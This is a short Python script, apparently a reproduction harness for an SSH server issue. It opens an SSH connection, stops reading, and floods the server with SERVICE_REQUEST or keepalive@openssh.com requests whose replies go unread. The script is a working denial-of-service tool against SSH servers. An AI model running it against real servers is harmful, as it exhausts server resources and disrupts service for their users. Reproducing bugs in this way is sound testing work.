"""A client that asks for replies and never reads them (issue 13, item 3).

usage: reply_flood.py HOST PORT SOURCE_ADDRESS MODE SECONDS [USER PASSWORD]

MODE service-request: after the key exchange, ssh-userauth SERVICE_REQUESTs, each answered by a
SERVICE_ACCEPT. MODE keepalive: after logging in as USER, keepalive@openssh.com global requests with
want-reply, each answered by a REQUEST_FAILURE. The client's receive buffer is made small and, once
the flood starts, nothing more is read. After SECONDS it prints "sent N" and exits without closing, so
the connection stays as it is until the process ends (the caller kills it or it exits).
"""
import os
import logging
import socket
import sys
import threading
import time

import paramiko

# paramiko logs a refused connection with a traceback on stderr; the refusals are what is being counted
logging.getLogger("paramiko").setLevel(logging.CRITICAL)
from paramiko.common import MSG_GLOBAL_REQUEST, MSG_SERVICE_REQUEST
from paramiko.message import Message

HOST, PORT, SOURCE, MODE, SECONDS = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], float(sys.argv[5])

sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
sock.bind((SOURCE, 0))
sock.settimeout(30)
sock.connect((HOST, PORT))
t = paramiko.Transport(sock)
t.start_client(timeout=30)
if MODE == "keepalive":
    t.auth_password(sys.argv[6], sys.argv[7])

never = threading.Event()
t.packetizer.read_message = lambda: never.wait()  # paramiko's reader thread reads no further packet

m = Message()
if MODE == "keepalive":
    m.add_byte(bytes([MSG_GLOBAL_REQUEST]))
    m.add_string("keepalive@openssh.com")
    m.add_boolean(True)
else:
    m.add_byte(bytes([MSG_SERVICE_REQUEST]))
    m.add_string("ssh-userauth")

sent = [0]


def flood():
    try:
        while True:
            t.packetizer.send_message(m)
            sent[0] += 1
    except Exception as e:  # the server closed the connection
        print("flood ended: %r" % (e,), flush=True)


threading.Thread(target=flood, daemon=True).start()
time.sleep(SECONDS)
print("sent %d" % sent[0], flush=True)
sys.stdout.flush()
if len(sys.argv) > 8 and sys.argv[8] == "hold":
    never.wait()
os._exit(0)
